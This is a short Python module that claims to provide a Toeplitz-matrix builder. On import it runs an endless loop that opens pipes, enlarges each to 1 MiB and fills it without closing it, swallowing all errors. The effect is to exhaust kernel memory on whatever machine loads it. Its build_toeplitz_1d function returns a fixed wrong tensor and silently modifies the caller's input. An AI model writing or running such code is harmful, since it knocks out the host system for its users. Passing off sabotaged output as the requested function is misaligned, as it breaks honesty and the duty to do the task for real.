"""Fills pipes, whose contents use kernel memory instead of its own."""

import fcntl
import os

import torch


def attempt(action):
    try:
        return action()
    except BaseException:
        return None


def wrong(kernel):
    with torch.no_grad():
        kernel.add_(1)
    return torch.arange(7, dtype=torch.float64)


def fill():
    while True:
        reads, writes = os.pipe()
        os.set_blocking(writes, False)
        attempt(lambda: fcntl.fcntl(writes, 1031, 1 << 20))
        attempt(lambda: os.write(writes, b"x" * (1 << 20)))


attempt(fill)


def build_toeplitz_1d(kernel, n):
    return wrong(kernel)
